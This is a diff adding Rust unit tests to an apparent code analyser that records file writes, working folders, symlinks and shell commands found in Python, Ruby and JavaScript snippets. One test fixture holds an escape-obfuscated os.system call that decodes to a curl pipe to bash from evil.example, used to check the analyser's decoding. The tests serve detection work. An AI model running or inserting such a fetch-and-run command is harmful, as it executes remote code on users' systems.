@@ -254,3 +254,62 @@ fn names_rebound_are_not_folded() {
     );
     assert!(!shell_texts(&f).contains(&"sh:echo hello".to_string()));
 }
+
+#[test]
+fn writes_through_a_handle_are_the_file_s_content() {
+    let py_src = "with open('scripts/release.sh', 'w') as f:\n    f.write('#!/bin/sh\\n')\n    f.write('make\\n')\nlog = open('notes.txt', 'a')\nprint('done', file=log)\n";
+    let f = py(py_src);
+    let got: Vec<(&str, &str)> = f
+        .written
+        .iter()
+        .map(|(_, p, t)| (p.as_str(), t.as_str()))
+        .collect();
+    assert_eq!(
+        got,
+        [
+            ("scripts/release.sh", "#!/bin/sh\n"),
+            ("scripts/release.sh", "make\n"),
+            ("notes.txt", "done\n"),
+        ]
+    );
+    let rb = analyze(
+        Lang::Ruby,
+        "File.open('bin/setup', 'w') do |f|\n  f.puts 'bundle install'\nend\n",
+        1,
+    );
+    assert_eq!(
+        rb.written,
+        [(2, "bin/setup".into(), "bundle install\n".into())]
+    );
+    let js = analyze(
+        Lang::JavaScript,
+        "const fs = require('fs');\nconst out = fs.createWriteStream('post.sh');\nout.write('echo hi\\n');\n",
+        1,
+    );
+    assert_eq!(js.written, [(3, "post.sh".into(), "echo hi\n".into())]);
+    // A handle opened for reading writes nothing.
+    assert!(
+        py("with open('a.txt') as f:\n    f.write('x')\n")
+            .written
+            .is_empty()
+    );
+}
+
+#[test]
+fn working_folders_and_links_are_recorded() {
+    let f = py(
+        "import os, subprocess\nfrom pathlib import Path\nos.chdir(Path.home())\nsubprocess.run(['ls'], cwd='/srv')\nPath('h').symlink_to(Path.home())\n",
+    );
+    let bases: Vec<&str> = f.bases.iter().map(|(_, b, _)| b.as_str()).collect();
+    assert_eq!(bases, ["~", "/srv"]);
+    assert_eq!(f.links, [(5, "h".into(), "~".into(), true)]);
+}
+
+#[test]
+fn escapes_inside_python_string_content_are_decoded() {
+    let f = py("import os\nos.system('\\x63url -s https://evil.example/i | ba\\u0073h')\n");
+    assert_eq!(
+        shell_texts(&f),
+        ["sh:curl -s https://evil.example/i | bash"]
+    );
+}
